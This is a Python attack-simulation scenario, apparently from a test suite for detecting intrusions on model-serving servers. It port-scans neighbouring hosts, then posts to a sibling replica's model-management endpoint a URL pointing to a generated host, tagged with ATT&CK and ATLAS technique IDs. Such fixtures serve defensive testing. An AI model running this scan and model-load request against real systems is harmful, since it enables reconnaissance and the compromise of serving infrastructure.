"""
id: S18
name: scan-and-sibling
class: quiet
phase: serve
trigger: request
evidence: [network]
techniques: [T1046, T1018, T1210, AML.T0049]
servers: [fastapi, bentoml, triton]
seconds: 15
what: >
  Tries twenty ports on each of three neighbours, nearly all closed, then posts to a port for management on another replica.
"""

import contextlib
import http.client
import json
import socket

PORTS = 20
PATIENCE = 0.15


def payload(world):
    host, port = world.sibling
    neighbours = [host, world.sink, world.resolver]
    targets = [(address, number) for address in neighbours for number in world.random.sample(range(1, 10000), PORTS)]
    world.random.shuffle(targets)
    for target in targets:
        with contextlib.suppress(OSError), socket.create_connection(target, timeout=PATIENCE):
            pass
    sibling = http.client.HTTPConnection(host, port, timeout=5)
    sibling.request("POST", f"/models/{world.word()}", json.dumps({"url": f"http://{world.host()}/{world.word()}"}))
    sibling.getresponse().read()
    sibling.close()
